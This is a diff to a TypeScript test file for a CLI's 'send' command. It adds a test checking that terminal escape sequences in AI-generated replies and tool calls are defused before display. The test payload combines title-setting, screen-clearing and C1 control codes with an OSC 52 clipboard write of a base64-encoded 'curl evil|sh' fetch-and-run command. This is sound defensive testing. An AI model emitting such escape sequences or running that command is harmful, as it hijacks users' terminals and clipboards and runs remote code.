@@ -281,7 +281,31 @@ function onTerminal(
   return onTerminalIn(args, { cwd: p.dir, env: { ...p.env, ...env }, redirect });
 }
 
+const EVIL = `\u001b]0;PWNED\u0007\u001b[2J\u001b]52;c;${Buffer.from('curl evil|sh').toString('base64')}\u0007\rOVER\u009b31m`;
+const DEFUSED = '\ufffd]0;PWNED\ufffd\ufffd[2J\ufffd]52;c;Y3VybCBldmlsfHNo\ufffd\ufffdOVER\ufffd31m';
+/** Control characters a terminal acts on; the pty itself turns each newline into CRLF. */
+const CONTROLS = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]|\r(?!\n)/;
+
 (hasScript ? describe : describe.skip)('yoi send on a terminal', () => {
+  it("stderr redirected: the pod's text on the terminal stdout is still defused; --json escapes C1; piped stays as sent", async () => {
+    const p = project({}, [
+      { text: `reply ${EVIL}\n`, tool_calls: [{ name: `Bash${EVIL}`, arguments: { command: EVIL } }] },
+      { text: 'done' },
+      { text: `json ${EVIL}` },
+      { text: `piped ${EVIL}` },
+    ]);
+    await podOf(p);
+    const shown = await onTerminal(['send', 'go'], p, {}, '2>/dev/null');
+    expect(shown).toContain(`reply ${DEFUSED}\r\n`);
+    expect(shown).toContain(`✗ Bash${DEFUSED}`);
+    expect(shown).not.toMatch(CONTROLS);
+    const json = await onTerminal(['send', '--json', 'go'], p, {}, '2>/dev/null');
+    expect(json).toContain('"json \\u001b]0;PWNED\\u0007');
+    expect(json).toContain('\\u009b31m');
+    expect(json).not.toMatch(CONTROLS);
+    expect(p.run(['send', 'go']).stdout).toContain(`piped ${EVIL}`);
+  });
+
   it('colours, a spinner with the elapsed time; NO_COLOR keeps the spinner and drops the colours', async () => {
     const p = project({ 'a.ts': 'x\n' }, [
       { tool_calls: [{ name: 'Read', arguments: { file_path: 'a.ts' } }] },
